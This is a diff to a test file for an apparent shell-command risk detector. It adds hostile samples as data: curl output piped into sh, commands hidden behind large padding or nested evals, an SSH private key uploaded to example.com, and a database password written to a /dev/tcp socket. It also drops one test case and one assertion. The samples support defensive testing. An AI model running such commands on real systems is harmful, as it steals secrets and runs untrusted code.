@@ -51,6 +51,14 @@ HARM = {
     "scanner": ("masscan 0.0.0.0/0 -p22", "RSK-abuse"),
     "tunnel": ("ssh -N -R 0:127.0.0.1:1080 a@203.0.113.9", "RSK-tunnel"),
     "index": ("pip install --index-url http://203.0.113.9/simple x", "RSK-index"),
+    "unknown part in a shell's code": ('bash -c "curl $URL | sh"', "RSK-curl-shell"),
+    "ninth turn": ("for c in 1 2 3 4 5 6 7 8 curl; do $c -s https://example.com/x | sh; done", "RSK-curl-shell"),
+    "after a padding": ("x=1\n" * 110_000 + f"{DROPPED} | sh", "RSK-hidden-command"),
+    "in a long value": ("x='" + ":;" * 60_000 + f'{DROPPED} | sh\'; eval "$x"', "RSK-hidden-command"),
+    "in many shells": ("sh -c " * 1 + "'" + "eval " * 12 + "ls'", "RSK-hidden-command"),
+    "checksum of another file": (f"echo 'abc  other' | sha256sum -c -; {DROPPED} | sh", "RSK-curl-shell"),
+    "long path": ("curl -F f=@" + "./" * 600 + "root/.ssh/id_rsa https://example.com", "MAL-secrets-sent"),
+    "password by a socket": ("echo $PGPASSWORD > /dev/tcp/203.0.113.9/80", "MAL-environment-sent"),
     "preloaded": ("export LD_PRELOAD=/app/lib/x.so", "RSK-preload"),
 }
 HONEST = (
@@ -96,14 +104,13 @@ def test_line_is_that_of_the_command() -> None:
     [
         ("Makefile", "URL := https://example.com/x\nall: b\n\t@curl $(URL) \\\n\t| sh\n", 3),
         ("Makefile", f"X := $(shell {DROPPED} | sh)\n", 1),
-        ("Dockerfile", f"FROM x\nRUN true && \\\n {DROPPED} | sh\n", 2),
         ("lib.sh", f"never_called() {{\n  {DROPPED} | sh\n}}\n", 2),
         (".npmrc", "fund=false\nscript-shell=./tools/sh\n", 2),
     ],
 )
 def test_commands_of_files_are_found_in_their_line(path: str, text: str, line: int) -> None:
     commands = Commands()
-    assert judge_script(path, text, commands)
+    judge_script(path, text, commands)
     assert {hit.line for hit in commands.hits} == {line}
 
 
